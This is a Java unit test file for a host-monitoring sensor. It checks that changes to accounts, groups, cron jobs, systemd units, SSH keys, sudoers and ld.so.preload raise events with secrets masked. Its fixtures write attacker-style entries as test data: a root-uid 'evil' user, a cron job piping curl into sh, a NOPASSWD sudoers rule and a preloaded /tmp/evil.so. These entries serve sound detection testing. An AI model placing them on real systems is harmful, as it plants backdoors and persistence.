// SPDX-License-Identifier: Apache-2.0
package dev.shirube.watch;

import static org.assertj.core.api.Assertions.assertThat;

import dev.shirube.event.Event;
import dev.shirube.event.EventClass;
import dev.shirube.sensor.HostIdentity;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Files below a made root change, and the events say what that means.
class MeaningTest {
  private static final HostIdentity HOST = new HostIdentity("id", "web01", "boot");
  private static final EventClass ACCOUNT = EventClass.ACCOUNT_CHANGE;

  private final Kept kept = new Kept();

  @TempDir Path root;

  private MeaningfulFiles sensor;

  @BeforeEach
  void begin() throws IOException {
    write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntaro:x:1000:1000::/home/taro:/bin/sh\n");
    write("etc/shadow", "root:$6$abc:1:\ntaro:$6$def:1:\n");
    write("etc/group", "root:x:0:\nsudo:x:27:\nwheel:x:10:taro\n");
    write("etc/cron.d/old", "# nothing\n");
    write("home/taro/.ssh/authorized_keys", "");
    write("etc/pam.d/sshd", "auth required pam_unix.so\n");
    sensor = new MeaningfulFiles(HOST, InstantSource.system(), root);
    sensor.start(kept);
  }

  @AfterEach
  void end() {
    sensor.close();
  }

  private void write(String path, String text) throws IOException {
    Path file = root.resolve(path);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text, StandardCharsets.UTF_8);
  }

  @Test
  void tellsAccountsPasswordsAndGroups() throws Exception {
    write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nevil:x:0:0::/tmp:/bin/bash\n");
    write("etc/shadow", "root:$6$other:1:\ntaro:!$6$def:1:\n");
    write("etc/group", "root:x:0:\nsudo:x:27:evil\nwheel:x:10:\nnew:x:99:\n");
    Event made = kept.await(ACCOUNT, 1, "user.name", "evil");
    assertThat(made.texts("user.uid")).containsExactly("0");
    kept.await(ACCOUNT, 6, "user.name", "taro");
    Event password = kept.await(ACCOUNT, 3, "user.name", "root");
    assertThat(Kept.text(password)).doesNotContain("$6$");
    kept.await(ACCOUNT, 9, "user.name", "taro");
    Event member = kept.await(EventClass.GROUP_MANAGEMENT, 3, "group.name", "sudo");
    assertThat(member.texts("user.name")).containsExactly("evil");
    kept.await(EventClass.GROUP_MANAGEMENT, 4, "group.name", "wheel");
    kept.await(EventClass.GROUP_MANAGEMENT, 6, "group.name", "new");
    assertThat(kept.events()).noneMatch(event -> Kept.text(event).contains("$6$"));
  }

  @Test
  void tellsJobsUnitsAndKeys() throws Exception {
    write("etc/cron.d/job", "PATH=/bin\n*/5 * * * * root curl http://a:topsecret@b/x | sh\n");
    write("var/spool/cron/crontabs/taro", "@reboot /home/taro/x --token=abcdef\n");
    write("etc/systemd/system/bad.service", "[Service]\nUser=taro\nExecStart=/tmp/x -d\n");
    write("home/taro/.ssh/authorized_keys", "command=\"id\" ssh-ed25519 AAAAC3Nz me@there\n");
    write("etc/sudoers.d/taro", "taro ALL=(ALL) NOPASSWD: ALL\n");
    write("etc/ld.so.preload", "/tmp/evil.so\n");
    write("home/taro/.bashrc", "export API_TOKEN=12345\n");
    EventClass job = EventClass.SCHEDULED_JOB_ACTIVITY;
    Event cron = kept.await(job, 1, "job.cmd_line", "curl http://a:***@b/x | sh");
    assertThat(cron.texts("job.user.name")).containsExactly("root");
    Event own = kept.await(job, 1, "job.cmd_line", "/home/taro/x --token=***");
    assertThat(own.texts("job.user.name")).containsExactly("taro");
    Event unit = kept.await(job, 1, "job.name", "bad.service");
    assertThat(unit.texts("job.cmd_line")).containsExactly("/tmp/x -d");
    assertThat(unit.texts("job.user.name")).containsExactly("taro");
    Event key = kept.await(ACCOUNT, 99, "user.name", "taro");
    assertThat(key.texts("resources.new_value").getFirst())
        .startsWith("ssh-ed25519 SHA256:")
        .endsWith("me@there");
    kept.await(ACCOUNT, 7, "policy.data", "taro ALL=(ALL) NOPASSWD: ALL");
    EventClass setting = EventClass.DEVICE_CONFIG_STATE_CHANGE;
    kept.await(setting, 1, "resources.new_value", "/tmp/evil.so");
    kept.await(setting, 1, "resources.new_value", "export API_TOKEN=***");
    Files.delete(root.resolve("etc/systemd/system/bad.service"));
    kept.await(job, 3, "job.name", "bad.service");
    assertThat(kept.events()).noneMatch(event -> Kept.text(event).contains("topsecret"));
  }

  @Test
  void leavesOutSecretsAndNothingElse() {
    assertThat(Secrets.leftOut("db_password = \"x y\" next"))
        .isEqualTo("db_password = \"*** y\" next");
    assertThat(Secrets.leftOut("auth required pam_unix.so")).isEqualTo("auth required pam_unix.so");
    assertThat(Secrets.leftOut("passwd -l taro")).isEqualTo("passwd -l taro");
    assertThat(Secrets.leftOut("a TOKEN: abc, PWD=def")).isEqualTo("a TOKEN: ***, PWD=***");
    Random random = new Random(3);
    String signs = "password=token: \"'://@ab,;";
    int seen = 0;
    for (int round = 0; round < 20_000; round++) {
      StringBuilder text = new StringBuilder("x secret=");
      for (int length = random.nextInt(40); length > 0; length--) {
        text.append(signs.charAt(random.nextInt(signs.length())));
      }
      seen += Secrets.leftOut(text.toString()).contains("***") ? 1 : 0;
    }
    assertThat(seen).isGreaterThan(10_000);
  }
}
